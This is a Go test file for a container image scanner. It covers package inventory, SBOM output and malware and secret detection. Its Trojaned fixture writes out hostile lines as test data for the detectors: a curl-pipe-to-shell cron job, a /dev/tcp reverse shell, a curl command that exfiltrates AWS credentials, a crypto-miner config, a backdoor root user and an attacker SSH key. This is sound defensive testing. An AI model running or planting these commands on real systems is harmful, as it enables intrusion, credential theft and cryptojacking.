package scan_test

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"math/big"
	"strings"
	"testing"
	"time"

	cdx "github.com/CycloneDX/cyclonedx-go"
	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/empty"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/types"
	spdxjson "github.com/spdx/tools-golang/json"

	"github.com/airlock-dev/airlock/internal/sandbox/sandboxtest"
	"github.com/airlock-dev/airlock/internal/scan"
	"github.com/airlock-dev/airlock/internal/scan/detect"
	"github.com/airlock-dev/airlock/internal/server/servertest"
)

// file is one member of a test layer.
type file struct {
	body []byte
	mode int64
	link string // symlink target
}

func layer(t testing.TB, files map[string]file) v1.Layer {
	t.Helper()
	fs := make(map[string]sandboxtest.File, len(files))
	for n, f := range files {
		mode := f.mode
		if mode == 0 {
			mode = 0o644
		}
		fs[n] = sandboxtest.File{Data: f.body, Mode: mode, Symlink: f.link}
	}
	return sandboxtest.Layer(t, fs)
}

// image stacks layers and sets the config's creation time and ENV.
func image(t testing.TB, created time.Time, env []string, layers ...v1.Layer) v1.Image {
	t.Helper()
	img := mutate.MediaType(empty.Image, types.OCIManifestSchema1)
	for i, l := range layers {
		var err error
		img, err = mutate.Append(img, mutate.Addendum{Layer: l, MediaType: types.OCILayer,
			History: v1.History{CreatedBy: fmt.Sprintf("layer %d", i), Created: v1.Time{Time: created}}})
		if err != nil {
			t.Fatal(err)
		}
	}
	cf, err := img.ConfigFile()
	if err != nil {
		t.Fatal(err)
	}
	cf = cf.DeepCopy()
	cf.OS, cf.Architecture = "linux", "amd64"
	cf.Created = v1.Time{Time: created}
	cf.Config.Env = env
	img, err = mutate.ConfigFile(img, cf)
	if err != nil {
		t.Fatal(err)
	}
	return img
}

func layerDigest(t testing.TB, l v1.Layer) string {
	d, err := l.Digest()
	if err != nil {
		t.Fatal(err)
	}
	return d.String()
}

var now = time.Date(2026, 6, 1, 0, 0, 0, 0, time.UTC)

func run(t testing.TB, img v1.Image, repo string) *scan.Report {
	t.Helper()
	ds, err := detect.All(detect.Config{Now: now})
	if err != nil {
		t.Fatal(err)
	}
	r, err := scan.Run(context.Background(), img, scan.Options{Reference: "test", Repository: repo, Detectors: ds, Now: now, TempDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func find(r *scan.Report, id, path string) *scan.Finding {
	for i, f := range r.Findings {
		if f.ID == id && (path == "" || f.Location.Path == path) {
			return &r.Findings[i]
		}
	}
	return nil
}

func pkg(r *scan.Report, typ, name string) *scan.Package {
	for i, p := range r.Packages {
		if p.Type == typ && p.Name == name {
			return &r.Packages[i]
		}
	}
	return nil
}

func dump(r *scan.Report) string {
	var b strings.Builder
	for _, f := range r.Findings {
		fmt.Fprintf(&b, "  %s %s %s %s %q\n", f.Severity, f.ID, f.Location.Path, f.Location.Layer, f.Evidence)
	}
	return b.String()
}

// Clean images: no malware or secret finding of high or critical severity.
func TestCleanImages(t *testing.T) {
	bb := servertest.Busybox(t)
	gobin := servertest.GoBinary(t, "amd64", "hello from a clean image")
	imgs := map[string]v1.Image{
		"busybox": image(t, now.AddDate(0, -1, 0), []string{"PATH=/bin"}, layer(t, map[string]file{
			"bin/busybox": {body: bb, mode: 0o755}, "bin/sh": {link: "busybox"}, "bin/ls": {link: "/bin/busybox"},
			"etc/passwd": {body: []byte("root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534:nobody:/:/bin/false\n")},
		})),
		"go": image(t, now.AddDate(0, -1, 0), nil, layer(t, map[string]file{"usr/local/bin/hello": {body: gobin, mode: 0o755}})),
	}
	for name, img := range imgs {
		r := run(t, img, "")
		for _, f := range r.Findings {
			if (f.Type == scan.TypeMalware || f.Type == scan.TypeSecret) && scan.SeverityRank(f.Severity) >= scan.SeverityRank("high") {
				t.Errorf("%s: clean image has %s %s at %s: %s", name, f.Severity, f.ID, f.Location.Path, f.Evidence)
			}
		}
	}
}

const dpkgStatusBase = `Package: libc6
Status: install ok installed
Priority: optional
Section: libs
Installed-Size: 12988
Maintainer: GNU Libc Maintainers <debian-glibc@lists.debian.org>
Architecture: amd64
Multi-Arch: same
Source: glibc
Version: 2.36-9+deb12u4
Description: GNU C Library: Shared libraries

`

const dpkgStatusYAML = `Package: python3-yaml
Status: install ok installed
Priority: optional
Section: python
Installed-Size: 600
Maintainer: Debian Python Team <team+python@tracker.debian.org>
Architecture: amd64
Source: pyyaml
Version: 6.0-3+b2
Description: YAML parser and emitter for Python3

`

func TestInventory(t *testing.T) {
	gobin := servertest.GoBinary(t, "amd64", "inventory")
	base := layer(t, map[string]file{
		"etc/os-release":                     {link: "../usr/lib/os-release"},
		"usr/lib/os-release":                 {body: []byte("PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nNAME=\"Debian GNU/Linux\"\nVERSION_ID=\"12\"\nVERSION=\"12 (bookworm)\"\nID=debian\n")},
		"var/lib/dpkg/status":                {body: []byte(dpkgStatusBase)},
		"var/lib/dpkg/info/libc6:amd64.list": {body: []byte("/.\n/lib/x86_64-linux-gnu/libc.so.6\n")},
		"lib/x86_64-linux-gnu/libc.so.6":     {body: []byte("\x7fELF libc")},
	})
	apps := layer(t, map[string]file{
		"var/lib/dpkg/status":                                                       {body: []byte(dpkgStatusBase + dpkgStatusYAML)},
		"var/lib/dpkg/info/python3-yaml.list":                                       {body: []byte("/.\n/usr/lib/python3/dist-packages/PyYAML-6.0.dist-info/METADATA\n")},
		"usr/lib/python3/dist-packages/PyYAML-6.0.dist-info/METADATA":               {body: []byte("Metadata-Version: 2.1\nName: PyYAML\nVersion: 6.0\n")},
		"usr/local/lib/python3.11/site-packages/requests-2.31.0.dist-info/METADATA": {body: []byte("Metadata-Version: 2.1\nName: requests\nVersion: 2.31.0\n")},
		"app/node_modules/lodash/package.json":                                      {body: []byte(`{"name": "lodash", "version": "4.17.20"}`)},
		"usr/local/bin/inventory":                                                   {body: gobin, mode: 0o755},
		"opt/app.jar":                                                               {body: fatJar(t)},
	})
	img := image(t, now.AddDate(0, -2, 0), nil, base, apps)
	r := run(t, img, "")
	bl, al := layerDigest(t, base), layerDigest(t, apps)
	check := func(typ, name, version, eco, loc, lay string) *scan.Package {
		t.Helper()
		p := pkg(r, typ, name)
		if p == nil {
			t.Fatalf("no %s package %s in %+v", typ, name, r.Packages)
		}
		if p.Version != version || p.Ecosystem != eco || p.Location != loc || p.Layer != lay {
			t.Errorf("%s %s: got %+v, want version %s ecosystem %s location %s layer %s", typ, name, *p, version, eco, loc, lay)
		}
		return p
	}
	libc := check("deb", "libc6", "2.36-9+deb12u4", "Debian:12", "/var/lib/dpkg/status", bl)
	if libc.Source != "glibc" || !strings.HasPrefix(libc.PURL, "pkg:deb/debian/libc6@") {
		t.Errorf("libc6 source/purl: %+v", libc)
	}
	// Added by the second layer, although the database file sits in both.
	yml := check("deb", "python3-yaml", "6.0-3+b2", "Debian:12", "/var/lib/dpkg/status", al)
	if yml.Source != "pyyaml" {
		t.Errorf("python3-yaml source: %q", yml.Source)
	}
	if p := check("python", "PyYAML", "6.0", "PyPI", "/usr/lib/python3/dist-packages/PyYAML-6.0.dist-info/METADATA", al); !p.OwnedByDistro {
		t.Error("PyYAML from python3-yaml must be OwnedByDistro")
	}
	if p := check("python", "requests", "2.31.0", "PyPI", "/usr/local/lib/python3.11/site-packages/requests-2.31.0.dist-info/METADATA", al); p.OwnedByDistro {
		t.Error("pip-installed requests is not owned by a distro package")
	}
	check("npm", "lodash", "4.17.20", "npm", "/app/node_modules/lodash/package.json", al)
	if p := pkg(r, "go-module", "stdlib"); p == nil || p.Ecosystem != "Go" || p.Location != "/usr/local/bin/inventory" || p.Layer != al {
		t.Errorf("Go stdlib from buildinfo: %+v", p)
	}
	check("java-archive", "com.example:app", "1.2.3", "Maven", "/opt/app.jar", al)
	if p := pkg(r, "java-archive", "org.example:inner"); p == nil || p.Version != "4.5.6" || p.Layer != al {
		t.Errorf("nested jar: %+v", p)
	}
	if r.Image.OS.ID != "debian" || r.Image.OS.VersionID != "12" {
		t.Errorf("os: %+v", r.Image.OS)
	}

	// The SBOMs parse with their own libraries and hold every package.
	var cbuf bytes.Buffer
	if err := r.WriteCycloneDX(&cbuf); err != nil {
		t.Fatal(err)
	}
	var bom cdx.BOM
	if err := cdx.NewBOMDecoder(bytes.NewReader(cbuf.Bytes()), cdx.BOMFileFormatJSON).Decode(&bom); err != nil {
		t.Fatal(err)
	}
	if bom.SpecVersion != cdx.SpecVersion1_6 || bom.BOMFormat != "CycloneDX" || bom.Components == nil || len(*bom.Components) != len(r.Packages) {
		t.Fatalf("CycloneDX: spec %v format %s components %v", bom.SpecVersion, bom.BOMFormat, bom.Components)
	}
	refs := map[string]bool{}
	for _, c := range *bom.Components {
		if c.BOMRef == "" || refs[c.BOMRef] || c.Name == "" || c.Evidence == nil {
			t.Fatalf("component %+v: empty or duplicate bom-ref or no evidence", c)
		}
		refs[c.BOMRef] = true
	}
	if bom.Metadata == nil || bom.Metadata.Component == nil || bom.Metadata.Component.Type != cdx.ComponentTypeContainer {
		t.Fatal("CycloneDX metadata must describe the container")
	}
	var sbuf bytes.Buffer
	if err := r.WriteSPDX(&sbuf); err != nil {
		t.Fatal(err)
	}
	doc, err := spdxjson.Read(bytes.NewReader(sbuf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	if doc.SPDXVersion != "SPDX-2.3" || doc.DataLicense != "CC0-1.0" || len(doc.Packages) != len(r.Packages)+1 || doc.DocumentNamespace == "" {
		t.Fatalf("SPDX: version %s license %s packages %d", doc.SPDXVersion, doc.DataLicense, len(doc.Packages))
	}
	ids := map[string]bool{}
	for _, p := range doc.Packages {
		if ids[string(p.PackageSPDXIdentifier)] {
			t.Fatalf("duplicate SPDX id %s", p.PackageSPDXIdentifier)
		}
		ids[string(p.PackageSPDXIdentifier)] = true
	}
	for _, rel := range doc.Relationships {
		if rel.RefA.ElementRefID != "DOCUMENT" && !ids[string(rel.RefA.ElementRefID)] || !ids[string(rel.RefB.ElementRefID)] {
			t.Fatalf("relationship to an unknown element: %+v", rel)
		}
	}
}

// fatJar is a Spring-style jar with Maven metadata and a nested library jar.
func fatJar(t testing.TB) []byte {
	inner := zipOf(t, map[string]string{
		"META-INF/MANIFEST.MF":                            "Manifest-Version: 1.0\n",
		"META-INF/maven/org.example/inner/pom.properties": "groupId=org.example\nartifactId=inner\nversion=4.5.6\n",
	})
	return zipOf(t, map[string]string{
		"META-INF/MANIFEST.MF":                          "Manifest-Version: 1.0\nMain-Class: com.example.App\n",
		"META-INF/maven/com.example/app/pom.properties": "groupId=com.example\nartifactId=app\nversion=1.2.3\n",
		"BOOT-INF/lib/inner-4.5.6.jar":                  string(inner),
	})
}

func zipOf(t testing.TB, files map[string]string) []byte {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for n, b := range files {
		w, err := zw.Create(n)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(b)); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestAlpineInventory(t *testing.T) {
	l := layer(t, map[string]file{
		"etc/os-release":          {body: []byte("NAME=\"Alpine Linux\"\nID=alpine\nVERSION_ID=3.19.1\nPRETTY_NAME=\"Alpine Linux v3.19\"\n")},
		"lib/apk/db/installed":    {body: []byte("P:musl\nV:1.2.4_git20230717-r4\nA:x86_64\no:musl\nF:lib\nR:ld-musl-x86_64.so.1\n\nP:libcrypto3\nV:3.1.4-r5\nA:x86_64\no:openssl\nF:usr/lib\nR:libcrypto.so.3\n\n")},
		"lib/ld-musl-x86_64.so.1": {body: []byte("\x7fELF musl"), mode: 0o755},
	})
	r := run(t, image(t, now.AddDate(0, -1, 0), nil, l), "")
	p := pkg(r, "apk", "libcrypto3")
	if p == nil || p.Ecosystem != "Alpine:v3.19" || p.Source != "openssl" || p.Version != "3.1.4-r5" || p.Layer != layerDigest(t, l) {
		t.Fatalf("apk package: %+v\n%+v", p, r.Packages)
	}
	// Alpine 3.19 was past its end of life on the test's date.
	if f := find(r, "AIRLOCK-AGE-OS-EOL", "/etc/os-release"); f == nil || f.Severity != "high" {
		t.Fatalf("no end-of-life finding:\n%s", dump(r))
	}
}

func rsaKeyPEM(t testing.TB) []byte {
	k, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	return pem.EncodeToMemory(&pem.Block{Type: "RSA PRIVATE KEY", Bytes: x509.MarshalPKCS1PrivateKey(k)})
}

func randomString(t testing.TB, alphabet string, n int) string {
	var b strings.Builder
	for i := 0; i < n; i++ {
		x, err := rand.Int(rand.Reader, big.NewInt(int64(len(alphabet))))
		if err != nil {
			t.Fatal(err)
		}
		b.WriteByte(alphabet[x.Int64()])
	}
	return b.String()
}

// Trojaned builds an image with each malicious class planted under an
// innocent name, spread over layers, on an old Debian 10 base.
func Trojaned(t testing.TB) (img v1.Image, base, payload, secrets v1.Layer, akid, secret string) {
	bb := servertest.Busybox(t)
	miner := servertest.GoBinary(t, "amd64", "XMRig/6.21.0 --donate-level=1 stratum+tcp://pool.supportxmr.com:3333")
	wallet := "4" + "4" + randomString(t, "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz", 93)
	base = layer(t, map[string]file{
		"bin/busybox":    {body: bb, mode: 0o755},
		"bin/sh":         {link: "busybox"},
		"etc/os-release": {body: []byte("PRETTY_NAME=\"Debian GNU/Linux 10 (buster)\"\nID=debian\nVERSION_ID=\"10\"\n")},
		"etc/passwd":     {body: []byte("root:x:0:0:root:/root:/bin/sh\n")},
	})
	payload = layer(t, map[string]file{
		"tmp/.X11-unix/kworkerd": {body: miner, mode: 0o755},
		"opt/app/settings.json": {body: []byte(`{"autosave": true, "donate-level": 1, "cpu": {"enabled": true},
 "pools": [{"url": "stratum+tcp://pool.supportxmr.com:3333", "user": "` + wallet + `", "pass": "x"}]}`)},
		"etc/cron.d/sysupdate":      {body: []byte("*/5 * * * * root curl -fsSL http://203.0.113.7/u.sh | sh\n")},
		"usr/local/bin/healthcheck": {body: []byte("#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"), mode: 0o755},
		"usr/local/bin/sync-config": {body: []byte("#!/bin/sh\ncurl -s -X POST --data-binary @/root/.aws/credentials https://collector.example/upload\n"), mode: 0o755},
		"usr/local/sbin/.helper":    {body: bb, mode: 0o4755},
		"etc/passwd":                {body: []byte("root:x:0:0:root:/root:/bin/sh\ntoor:x:0:0::/root:/bin/sh\n")},
		"etc/ld.so.preload":         {body: []byte("/usr/lib/libsystem.so\n")},
		"root/.ssh/authorized_keys": {body: []byte("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHdD0A6sEmWfjVG3wI0X0ktDs8kVbwWBqVFhmDdVq0r6 attacker\n")},
	})
	akid = "AKIA" + randomString(t, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16)
	secret = randomString(t, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789", 40)
	secrets = layer(t, map[string]file{
		"root/.ssh/id_rsa":         {body: rsaKeyPEM(t), mode: 0o600},
		"srv/app/.aws/credentials": {body: []byte("[default]\naws_access_key_id = " + akid + "\naws_secret_access_key = " + secret + "\n")},
		"srv/app/.env":             {body: []byte("DATABASE_PASSWORD=hunter2hunter2\nDEBUG=false\n")},
	})
	img = image(t, time.Date(2019, 7, 1, 0, 0, 0, 0, time.UTC), []string{"PATH=/bin", "POOL=stratum+ssl://xmr-eu1.nanopool.org:14433"}, base, payload, secrets)
	return img, base, payload, secrets, akid, secret
}

func TestTrojanedImage(t *testing.T) {
	img, base, payload, secrets, akid, secret := Trojaned(t)
	r := run(t, img, "docker.io/library/alpline")
	pl, sl, bl := layerDigest(t, payload), layerDigest(t, secrets), layerDigest(t, base)
	want := []struct {
		id, path, layer, sev string
	}{
		{"AIRLOCK-MINER-XMRIG-BINARY", "/tmp/.X11-unix/kworkerd", pl, "critical"},
		{"AIRLOCK-MINER-STRATUM", "/tmp/.X11-unix/kworkerd", pl, "critical"},
		{"AIRLOCK-FILE-ELF-SCRATCH", "/tmp/.X11-unix/kworkerd", pl, "high"},
		{"AIRLOCK-FILE-DAEMON-NAME", "/tmp/.X11-unix/kworkerd", pl, "high"},
		{"AIRLOCK-MINER-XMRIG-CONFIG", "/opt/app/settings.json", pl, "critical"},
		{"AIRLOCK-MINER-STRATUM", "/opt/app/settings.json", pl, "critical"},
		{"AIRLOCK-MINER-POOL-PORT", "/opt/app/settings.json", pl, "critical"},
		{"AIRLOCK-MINER-WALLET", "/opt/app/settings.json", pl, "high"},
		{"AIRLOCK-MINER-STRATUM", "config:Env", "", "critical"},
		{"AIRLOCK-MINER-POOL-PORT", "config:Env", "", "critical"},
		{"AIRLOCK-CRON-NETWORK", "/etc/cron.d/sysupdate", pl, "high"},
		{"AIRLOCK-DOWNLOAD-EXEC", "/etc/cron.d/sysupdate", pl, "high"},
		{"AIRLOCK-REVSHELL-DEVTCP", "/usr/local/bin/healthcheck", pl, "critical"},
		{"AIRLOCK-STEALER-CLOUD-CREDS", "/usr/local/bin/sync-config", pl, "critical"},
		{"AIRLOCK-FILE-SUID-ODD-PLACE", "/usr/local/sbin/.helper", pl, "critical"},
		{"AIRLOCK-FILE-UID0-USER", "/etc/passwd", pl, "critical"},
		{"AIRLOCK-LD-PRELOAD-FILE", "/etc/ld.so.preload", pl, "high"},
		{"AIRLOCK-FILE-AUTHORIZED-KEYS", "/root/.ssh/authorized_keys", pl, "high"},
		{"AIRLOCK-SECRET-PRIVATE-KEY", "/root/.ssh/id_rsa", sl, "critical"},
		{"AIRLOCK-SECRET-AWS-ACCESS-KEY", "/srv/app/.aws/credentials", sl, "critical"},
		{"AIRLOCK-SECRET-AWS-CREDENTIALS-FILE", "/srv/app/.aws/credentials", sl, "critical"},
		{"AIRLOCK-SECRET-DOTENV", "/srv/app/.env", sl, "high"},
		{"AIRLOCK-NAME-TYPOSQUAT", "reference", "", "high"},
		{"AIRLOCK-AGE-CREATED", "config:Created", "", "high"},
		{"AIRLOCK-AGE-OS-EOL", "/etc/os-release", "", "high"},
	}
	for _, w := range want {
		f := find(r, w.id, w.path)
		if f == nil {
			t.Errorf("missing %s at %s", w.id, w.path)
			continue
		}
		if f.Location.Layer != w.layer || f.Severity != w.sev {
			t.Errorf("%s at %s: layer %s severity %s, want %s %s", w.id, w.path, f.Location.Layer, f.Severity, w.layer, w.sev)
		}
	}
	_ = bl
	// Secrets are never printed whole, in any output.
	var all bytes.Buffer
	for _, format := range scan.Formats {
		if err := r.Write(&all, format, false); err != nil {
			t.Fatal(err)
		}
	}
	for _, s := range []string{secret, akid, "hunter2hunter2", "MII"} {
		if strings.Contains(all.String(), s) {
			t.Errorf("a secret (%q…) leaked into the output", s[:4])
		}
	}
	if t.Failed() {
		t.Logf("findings:\n%s", dump(r))
	}
	// The JSON report has the documented shape.
	var doc struct {
		Findings []struct {
			Type, Severity, ID, Title, Evidence string
			Location                            struct{ Path, Layer string }
		}
	}
	var jbuf bytes.Buffer
	_ = r.Write(&jbuf, "json", false)
	if err := json.Unmarshal(jbuf.Bytes(), &doc); err != nil || len(doc.Findings) != len(r.Findings) {
		t.Fatalf("json: %v", err)
	}
	if r.AtLeast("critical") == 0 || r.Worst() != "critical" {
		t.Fatal("AtLeast/Worst")
	}
}
